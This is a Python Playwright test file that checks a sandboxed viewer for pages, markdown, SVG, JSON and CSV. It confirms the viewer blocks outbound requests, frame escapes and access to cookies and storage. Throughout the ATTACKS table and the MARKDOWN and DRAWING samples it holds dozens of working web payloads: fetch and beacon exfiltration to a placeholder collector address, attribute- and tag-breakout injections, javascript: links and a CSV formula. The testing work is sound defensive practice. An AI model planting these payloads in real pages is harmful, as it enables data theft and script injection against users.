"""Hostile content on view pages, in a real browser: nothing that it tries is heard of elsewhere, by anybody.

Each attack goes to a collector of its own, which hears a bare connection too, and has its control: the same content as
a plain page, from which the collector does hear.
"""

import os
import time
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from playwright.async_api import ConsoleMessage, Page, expect
from view_stage import PATIENCE_SECONDS, QUIET_SECONDS, Show, collecting, opened, staged

pytestmark = pytest.mark.asyncio(loop_scope="module")

ALIVE = "<script>console.log('alive')</script>"


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """Content that calls `AT`, an address, or `PORT` on this machine; `press` is what a user is lured to click."""

    html: str
    press: str | None = None


def script(code: str) -> Attack:
    return Attack(html=f"{ALIVE}<p>text</p><script>{code}</script>")


def markup(html: str, *, press: str | None = None) -> Attack:
    return Attack(html=f"{ALIVE}<p>text</p>{html}", press=press)


ATTACKS: Mapping[str, Attack] = {
    "fetch": script("fetch('AT')"),
    "fetch without cors": script("fetch('AT', {mode: 'no-cors', keepalive: true})"),
    "XMLHttpRequest": script("const x = new XMLHttpRequest(); x.open('GET', 'AT'); x.send()"),
    "beacon": script("navigator.sendBeacon('AT', 'secret')"),
    "WebSocket": script("new WebSocket('ws://127.0.0.1:PORT/')"),
    "EventSource": script("new EventSource('AT')"),
    "dynamic import": script("import('AT/a.js')"),
    "worker": script("new Worker(URL.createObjectURL(new Blob([\"fetch('AT')\"])))"),
    "image by script": script("new Image().src = 'AT/a.png'"),
    "WebRTC by UDP": script(
        "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});"
        "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))"
    ),
    "WebRTC by TCP": script(
        "const c = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'u', "
        "credential: 'p'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))"
    ),
    "location": script("location = 'AT'"),
    "location replaced": script("location.replace('AT')"),
    "top location": script("top.location = 'AT'"),
    "parent location": script("parent.location = 'AT'"),
    "link by script": script(
        "const a = document.createElement('a'); a.href = 'AT'; document.body.append(a); a.click()"
    ),
    "form by script": markup(
        "<form action='AT' method=post id=f><input name=a value=b></form><script>f.submit()</script>"
    ),
    "form into a window": markup("<form action='AT' target=_blank><button id=go>Go</button></form>", press="#go"),
    "form by click": markup("<form action='AT'><button id=go>Go</button></form>", press="#go"),
    "form posted by click": markup("<form action='AT' method=post><button id=go>Go</button></form>", press="#go"),
    "form at the top": markup("<form action='AT' target=_top><button id=go>Go</button></form>", press="#go"),
    "navigation": script("navigation.navigate('AT')"),
    "frame of data": markup("<iframe src=\"data:text/html,<script>fetch('AT')</script>\"></iframe>"),
    "frames in frames": markup("<iframe srcdoc=\"<iframe srcdoc='<img src=AT/a.png>'></iframe>\"></iframe>"),
    "window.open": markup("<button id=go onclick=\"window.open('AT')\">Go</button>", press="#go"),
    "link": markup("<a id=go href='AT'>Go</a>", press="#go"),
    "link into a window": markup("<a id=go href='AT' target=_blank>Go</a>", press="#go"),
    "link at the top": markup("<a id=go href='AT' target=_top>Go</a>", press="#go"),
    "link with ping": markup("<a id=go href='#x' ping='AT'>Go</a>", press="#go"),
    "download link": markup("<a id=go href='AT' download>Go</a>", press="#go"),
    "meta refresh": markup("<meta http-equiv=refresh content='0; url=AT'>"),
    "image": markup("<img src='AT/a.png'>"),
    "image set": markup("<img srcset='AT/a.png 1x'>"),
    "picture by base": markup("<base href='AT/'><img src=a.png>"),
    "media": markup("<video src='AT/a.mp4' autoplay></video>"),
    "poster": markup("<video poster='AT/a.png'></video>"),
    "style sheet": markup("<link rel=stylesheet href='AT/a.css'>"),
    "style import": markup("<style>@import url('AT/a.css');</style>"),
    "style background": markup("<style>p { background: url('AT/a.png') }</style>"),
    "style attribute": markup("<p style=\"background: url('AT/a.png')\">x</p>"),
    "font": markup("<style>@font-face { font-family: f; src: url('AT/a.woff2') } p { font-family: f }</style>"),
    "script": markup("<script src='AT/a.js'></script>"),
    "frame": markup("<iframe src='AT'></iframe>"),
    "object": markup("<object data='AT/a.html'></object>"),
    "embed": markup("<embed src='AT/a.html'>"),
    "drawing in the page": markup("<svg><image href='AT/a.png' width=9 height=9 /></svg>"),
    "frame in the frame": markup("<iframe srcdoc=\"<script>fetch('AT')</script>\"></iframe>"),
    "frame in the frame that leaves": markup("<iframe srcdoc=\"<script>location = 'AT'</script>\"></iframe>"),
    "prefetch": markup("<link rel=prefetch href='AT'>"),
    "preload": markup("<link rel=preload as=image href='AT/a.png'>"),
    "module preload": markup("<link rel=modulepreload href='AT/a.js'>"),
    "preconnect": markup("<link rel=preconnect href='AT'>"),
    "out of the attribute": markup("\"></iframe><img src='AT/a.png'><iframe srcdoc=\""),
    "out of its tags": markup("</script></style></title></textarea>]]>--><img src='AT/a.png'>"),
}

MARKDOWN = """# Innocent
![a picture](AT/a.png) <img src="AT/b.png"> <script>fetch("AT")</script>
<svg onload="fetch('AT')"><image href="AT/c.png"></svg> </script><style>@import url(AT);</style>

[reference][r] <AT> [script](javascript:fetch('AT')) [data](data:text/html,<script>fetch('AT')</script>)

<iframe srcdoc="<img src='AT/d.png'>"></iframe> <meta http-equiv="refresh" content="0; url=AT">
<link rel=preconnect href="AT"> "></iframe><img src='AT/e.png'> ]]>

```"><img src=AT/f.png>
</code></pre><img src=AT/g.png>
```

[r]: AT "\\"><img src=AT/h.png>"
"""
DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90"
onload="fetch('AT')"><script>fetch('AT')</script><style>@import url("AT/a.css"); rect { fill: url("AT/b.svg#x") }
</style>
<image href="AT/a.png" width="9" height="9"/><use xlink:href="AT/c.svg#x"/><rect width="90" height="90"/>
<foreignObject width="50" height="50"><img xmlns="http://www.w3.org/1999/xhtml" src="AT/d.png"/></foreignObject>
</svg>"""


@pytest.mark.parametrize("name", ATTACKS)
async def test_a_page_reaches_nothing(name: str, tab: Page, show: Show) -> None:
    attack = ATTACKS[name]
    async with collecting() as collector, staged(collector.aimed(attack.html)) as plain:
        since = time.monotonic()
        await opened(tab, plain, attack.press)
        assert await collector.hear(PATIENCE_SECONDS), "the control is not heard, so silence would prove nothing"
        took = time.monotonic() - since
    tab = await tab.context.new_page()
    said: list[str] = []

    def note(message: ConsoleMessage) -> None:
        said.append(message.text)

    tab.on("console", note)
    async with collecting() as collector:
        address = await show("html-sandboxed", collector.aimed(attack.html), "A page")
        await opened(tab, address, attack.press, in_frame=True)
        assert await collector.hear(max(QUIET_SECONDS, took)) == []
    assert "alive" in said
    assert tab.url == address


@pytest.mark.parametrize("type", ["markdown", "svg", "json", "csv", "code"])
async def test_what_is_no_page_reaches_nothing(type: str, tab: Page, show: Show) -> None:
    content = DRAWING if type == "svg" else MARKDOWN
    if type == "json":
        content = f'["</script><img src=AT/a.png>", "{ALIVE}", "<!-- ]]> --><iframe src=AT>"]'
    if type == "csv":
        content = f"a</td><img src=AT/a.png>\n{ALIVE}<script>fetch('AT')</script>\n=HYPERLINK(AT)\n"
    careless = MarkdownIt("commonmark").render(content) if type == "markdown" else content
    async with collecting() as collector:
        media_type = "image/svg+xml" if type == "svg" else "text/html"
        async with staged(collector.aimed(careless), media_type) as plain:
            await opened(tab, plain, None)
            assert await collector.hear(PATIENCE_SECONDS), "the control is not heard, so silence would prove nothing"
    tab = await tab.context.new_page()
    async with collecting() as collector:
        address = await show(type, collector.aimed(content), '"><img src=AT/t.png></title><script>fetch("AT")</script>')
        await opened(tab, address, None)
        for link in await tab.frame_locator("iframe").locator("a").all():
            await link.click()
        assert await collector.hear(QUIET_SECONDS) == []
    assert tab.url == address
    assert await tab.evaluate("[...document.body.children].map((each) => each.localName)") == ["header", "iframe"]
    frame = tab.frame_locator("iframe").locator("body")
    assert await frame.locator("script, iframe, object, embed, link, form, base, svg, [onload]").count() == 0


async def test_links_within_a_page_lead_to_its_parts(tab: Page, show: Show) -> None:
    html = "<a id=go href='#end'>To the end</a><p style='margin-top: 3000px' id=end>The end</p>"
    await tab.goto(await show("html-sandboxed", html, "A long page"))
    frame = tab.frame_locator("iframe")
    await frame.locator("#go").click()
    await expect(frame.locator("#end")).to_be_in_viewport()


async def test_a_link_in_markdown_says_where_it_leads_and_leaves_the_page_as_it_is(tab: Page, show: Show) -> None:
    address = await show("markdown", "See [the data](https://example.com/q3).", "Report")
    await tab.goto(address)
    link = tab.frame_locator("iframe").get_by_role("link", name="the data")
    await link.click()
    await expect(tab.frame_locator("iframe").get_by_text("https://example.com/q3")).to_be_visible()
    assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert (tab.url, len(tab.context.pages)) == (address, 2)


@pytest.mark.parametrize(("type", "content"), [("markdown", "# Text"), ("html-sandboxed", "<p>Text</p>")])
async def test_a_page_offers_its_very_bytes(type: str, content: str, tab: Page, show: Show, tmp_path: Path) -> None:
    address = await show(type, content, "Text")
    await tab.goto(address)
    async with tab.expect_download(timeout=5000) as started:
        await tab.get_by_role("link", name="Download").click()
    await (await started.value).save_as(tmp_path / "saved")
    assert (tmp_path / "saved").read_text(encoding="utf-8") == content
    assert tab.url == address


async def test_script_in_a_page_has_no_origin_and_touches_nothing(tab: Page, show: Show) -> None:
    probes = {
        "origin": "self.origin",
        "parent": "parent.document.title",
        "cookie": "document.cookie",
        "storage": "localStorage.length",
        "session": "sessionStorage.length",
        "frame": "frameElement",
    }
    code = "".join(
        f"try {{ told.{name} = String({probe}) }} catch {{ told.{name} = 'refused' }};"
        for name, probe in probes.items()
    )
    end = "document.querySelector('p').textContent = JSON.stringify(told)"
    html = f"<p id=told></p><script>const told = {{}}; {code} {end}</script>"
    await tab.goto(await show("html-sandboxed", html, "A curious page"))
    told = tab.frame_locator("iframe").locator("#told")
    await expect(told).to_have_text(
        '{"origin":"null","parent":"refused","cookie":"refused","storage":"refused","session":"refused","frame":"null"}'
    )


async def test_a_page_of_another_origin_may_not_frame_it_and_the_application_may(
    tab: Page, url: str, show: Show
) -> None:
    address = await show("markdown", "# Framed", "Framed")
    outer = f"<iframe id=outer src='{address}'></iframe>"
    async with staged(outer) as elsewhere:
        await tab.goto(elsewhere)
        inner = tab.frame_locator("#outer").frame_locator("iframe").get_by_text("Framed")
        await expect(tab.frame_locator("#outer").locator("body")).to_be_attached()
        assert await inner.count() == 0
    await tab.route(f"{url}/embedding", lambda route: route.fulfill(content_type="text/html", body=outer))
    await tab.goto(f"{url}/embedding")
    await expect(
        tab.frame_locator("#outer").frame_locator("iframe").get_by_role("heading", name="Framed")
    ).to_be_visible()


@pytest.mark.parametrize("width", [360, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_no_page_is_wider_than_the_screen(width: int, scheme: str, tab: Page, show: Show) -> None:
    contents = {
        "markdown": f"# Report\n\n{'unbroken' * 40}\n\n|a|b|\n|-|-|\n|{'x' * 300}|y|\n\n`{'code' * 90}`\n\n"
        f"```python\n{'x = 1; ' * 60}\n```\n",
        "svg": DRAWING.replace('width="90"', 'width="4000"', 1),
        "html-sandboxed": "<p>Text</p>",
    }
    await tab.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
    await tab.set_viewport_size({"width": width, "height": 780})
    for type, content in contents.items():
        await tab.goto(await show(type, content, "A title that is long " * 9))
        assert await tab.evaluate("document.documentElement.scrollWidth") == width
        inner = await tab.frame_locator("iframe").locator("html").evaluate("(it) => it.scrollWidth - it.clientWidth")
        assert inner == 0, type
        if folder := os.environ.get("GALLERY_PICTURES"):
            await tab.screenshot(path=Path(folder) / f"view-{type}-{scheme}-{width}.png")
